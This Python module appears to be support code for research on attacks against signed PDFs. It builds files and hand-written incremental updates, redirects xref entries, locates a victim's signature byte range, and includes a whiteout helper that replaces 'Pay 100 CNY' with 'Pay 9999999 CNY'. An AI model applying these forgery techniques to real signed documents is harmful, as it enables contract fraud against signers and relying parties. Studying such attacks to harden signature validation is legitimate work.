"""Byte-level PDF writing and reading: whole files with a classic xref, incremental
updates appended by hand (pikepdf/qpdf cannot write incremental updates), and the
offsets an attack needs (objects, xref sections, the signature dictionary)."""

import re
import zlib

ORIGINAL = b"Pay 100 CNY"
FORGED = b"Pay 9999999 CNY"


def stream(dict_body: bytes, data: bytes) -> bytes:
    """An indirect object's body: a stream with /Length set."""
    return b"<<" + dict_body + b" /Length %d>>\nstream\n" % len(data) + data + b"\nendstream"


def flate(dict_body: bytes, data: bytes) -> bytes:
    return stream(dict_body + b" /Filter /FlateDecode", zlib.compress(data))


def text_content(text: bytes, font: bytes = b"/F1") -> bytes:
    return b"BT %s 24 Tf 72 700 Td (%s) Tj ET" % (font, text)


def whiteout_then(text: bytes) -> bytes:
    """Covers the contract's line with white and writes `text` where it was."""
    return b"q 1 1 1 rg 60 690 400 40 re f Q " + text_content(text)


def xref_table(entries: dict, extra_raw: bytes = b"") -> bytes:
    """A classic xref section of one-object subsections ({num: offset})."""
    out = [b"xref\n"]
    for num in sorted(entries):
        out.append(b"%d 1\n%010d 00000 n \n" % (num, entries[num]))
    return b"".join(out) + extra_raw


def whole_file(objects: dict, root: int, size: int | None = None) -> bytes:
    """A one-revision PDF with a classic xref; `objects` maps numbers to bodies."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    size = size or max(objects) + 1
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        if num in offsets:
            out += b"%010d 00000 n \n" % offsets[num]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref_at)
    return bytes(out)


def append_update(
    base: bytes,
    objects: dict,
    *,
    extra_entries: dict | None = None,
    xref: bool = True,
    trailer: bool = True,
    prev: int | None = None,
    trailer_extra: bytes = b"",
) -> bytes:
    """`base` plus an incremental update defining `objects` ({num: body}).

    `extra_entries` ({num: offset}) are xref entries that point wherever the attack wants.
    `xref` / `trailer`: write the section / trailer (an incremental-saving variant leaves
    them out). The trailer's /Prev is the base's last startxref unless `prev` says otherwise.
    """
    info = Info(base)
    out = bytearray(base)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for num, body in objects.items():
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    offsets.update(extra_entries or {})
    size = max([info.size] + [n + 1 for n in offsets])
    xref_at = len(out)
    if xref:
        out += xref_table(offsets)
    if trailer:
        out += b"trailer\n<< /Size %d /Root %s /Prev %d%s >>\n" % (
            size,
            info.root_ref,
            info.startxref if prev is None else prev,
            trailer_extra,
        )
    if xref or trailer:
        out += b"startxref\n%d\n%%%%EOF\n" % (xref_at if xref else info.startxref)
    return bytes(out)


class Info:
    """What the attacks read from a file: its last startxref, /Size, /Root, objects."""

    def __init__(self, data: bytes):
        self.data = data
        at = data.rindex(b"startxref")
        self.startxref = int(data[at + 9 :].split()[0])
        sizes = re.findall(rb"/Size (\d+)", data)
        self.size = max(int(s) for s in sizes)
        roots = re.findall(rb"/Root (\d+ \d+ R)", data)
        self.root_ref = roots[-1]

    def last_def(self, num: int) -> int:
        """Offset of the last `num 0 obj` header in the file."""
        hits = [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % num, self.data)]
        return hits[-1]

    def body(self, num: int) -> bytes:
        """The last definition's body (between `obj` and `endobj`)."""
        at = self.last_def(num)
        start = self.data.index(b"obj", at) + 3
        end = self.data.index(b"endobj", start)
        return self.data[start:end].strip()


class Sig:
    """A signature dictionary of a sealed file: /ByteRange and its /Contents gap. The
    first one by default: the victim's seal (later ones may be document timestamps)."""

    def __init__(self, data: bytes, which: int = 0):
        hits = list(re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data))
        m = hits[which]
        self.range = [int(x) for x in m.groups()]
        self.range_at = m.start()
        a, b, c, d = self.range
        self.gap = (b, c)  # data[b] == '<', data[c-1] == '>'
        self.end = c + d  # the end of the signed revision
        # The object holding the dictionary: the last header before the /ByteRange.
        heads = list(re.finditer(rb"(\d+) 0 obj", data[: m.start()]))
        self.obj = int(heads[-1].group(1))
        self.obj_at = heads[-1].start()
        self.contents_hex = data[b + 1 : c - 1]
        self.cms = bytes.fromhex(self.contents_hex.decode()).rstrip(b"\0")

    def dict_text(self, data: bytes) -> bytes:
        """The signature dictionary as written (`<< ... >>`, /Contents included)."""
        start = data.index(b"obj", self.obj_at) + 3
        end = data.index(b"endobj", start)
        return data[start:end].strip()
